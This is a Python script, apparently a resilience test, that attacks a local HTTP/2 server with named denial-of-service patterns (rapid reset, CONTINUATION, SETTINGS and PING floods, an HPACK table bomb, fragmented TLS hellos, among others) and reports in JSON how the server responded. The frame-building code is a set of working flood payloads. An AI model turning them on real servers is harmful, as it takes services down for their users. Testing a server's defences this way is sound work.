"""Floods an HTTP/2 server, or breaks a TLS hello into pieces: h2_flood.py PORT CERT KEY CA NAME KIND; tells {"end", "sent", "said"} as JSON.

`end` is "closed" (by the server), "held" (it takes no more), or "done" (everything went and the connection stands). `said` are the types of the frames,
or of the records, that came back.
"""
import json
import select
import socket
import ssl
import struct
import sys
import time

port, cert, key, ca, name, kind = sys.argv[1:]
SECONDS, BYTES = 4, 16 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(method=b"GET"):
    """A header block: nothing of it is in the table, so that it means the same at any time."""
    pairs = [(b":method", method), (b":scheme", b"https"), (b":path", b"/flood"), (b":authority", name.encode())]
    return b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in pairs)


def floods():
    """What is sent, piece by piece, without end."""
    if kind == "rapid-reset":
        for stream in range(1, 1 << 30, 2):
            yield frame(1, 5, stream, request()) + frame(3, 0, stream, struct.pack(">I", 8))
    elif kind == "continuations":
        yield frame(1, 1, 1, request())
        while True:
            yield frame(9, 0, 1, b"\0\5x-abc\5value" * 100)
    elif kind == "empty-continuations":
        yield frame(1, 1, 1, request())
        while True:
            yield frame(9, 0, 1) * 100
    elif kind == "settings":
        while True:
            yield frame(4, 0, 0, struct.pack(">HI", 4, 65_535)) * 50
    elif kind == "pings":
        while True:
            yield frame(6, 0, 0, b"flooding") * 50
    elif kind == "empty-data":
        yield frame(1, 4, 1, request(b"POST"))
        while True:
            yield frame(0, 0, 1) * 100
    elif kind == "window-overflow":
        yield frame(8, 0, 0, struct.pack(">I", 0x7FFF_FFFF)) * 2
    elif kind == "table-bomb":
        # One long header is put into the table, and named again and again.
        yield frame(1, 4, 1, request() + b"\x40\5x-big\x7f\xa1\x1e" + b"a" * 4_000)
        yield frame(1, 5, 3, request() + b"\xbe" * 16_000)
        while True:
            yield frame(6, 0, 0, b"are-you-") * 5
            time.sleep(0.2)
    elif kind == "resets-of-nothing":
        while True:
            yield frame(3, 0, 1, struct.pack(">I", 8)) * 50
    elif kind == "priorities":
        for stream in range(1, 1 << 30, 2):
            yield frame(2, 0, stream, struct.pack(">IB", 0, 15))
    elif kind == "streams":
        for stream in range(1, 1 << 30, 2):
            yield frame(1, 4, stream, request(b"POST"))
    elif kind == "unknown-frames":
        while True:
            yield frame(0xEE, 0, 0, b"x" * 1_000)
    else:
        sys.exit(f"{kind}?")


def types(seen, inside):
    """The types of whole frames, without repetition."""
    while len(inside) >= 9:
        size = int.from_bytes(inside[:3], "big")
        if len(inside) < 9 + size:
            break
        seen.add(inside[3])
        inside = inside[9 + size:]
    return inside


def flood():
    context = ssl.create_default_context(cafile=ca)
    context.load_cert_chain(cert, key)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), 10)
    tls = context.wrap_socket(raw, server_hostname=name)
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    tls.settimeout(3)
    seen, rest, sent, end = set(), b"", 0, "done"
    deadline = time.monotonic() + SECONDS
    # Those that are about answers nobody takes do not read.
    reads = kind not in ("settings", "pings")
    try:
        for piece in floods():
            tls.sendall(piece)
            sent += len(piece)
            while reads and (tls.pending() or select.select([tls], [], [], 0)[0]):
                got = tls.recv(65_536)
                if not got:
                    raise ConnectionError
                rest = types(seen, rest + got)
            if sent > BYTES or time.monotonic() > deadline:
                break
        else:
            while time.monotonic() < deadline:
                got = tls.recv(65_536)
                if not got:
                    raise ConnectionError
                rest = types(seen, rest + got)
    except (TimeoutError, ssl.SSLWantWriteError):
        end = "held"
    except OSError:
        end = "closed"
    return end, sent, seen


def hello(pieces):
    """A ClientHello in records of a few bytes each; what comes back."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    whole = outgoing.read()[5:]
    raw = socket.create_connection(("127.0.0.1", port), 10)
    raw.settimeout(20)
    try:
        for at in range(0, len(whole), pieces):
            part = whole[at:at + pieces]
            raw.sendall(b"\x16\x03\x01" + struct.pack(">H", len(part)) + part)
        got = raw.recv(4_096)
    except OSError:
        got = b""
    return "done" if got else "closed", len(whole), set(got[:1])


port = int(port)
end, sent, seen = hello(int(kind.removeprefix("hello-"))) if kind.startswith("hello-") else flood()
print(json.dumps({"end": end, "sent": sent, "said": sorted(seen)}))
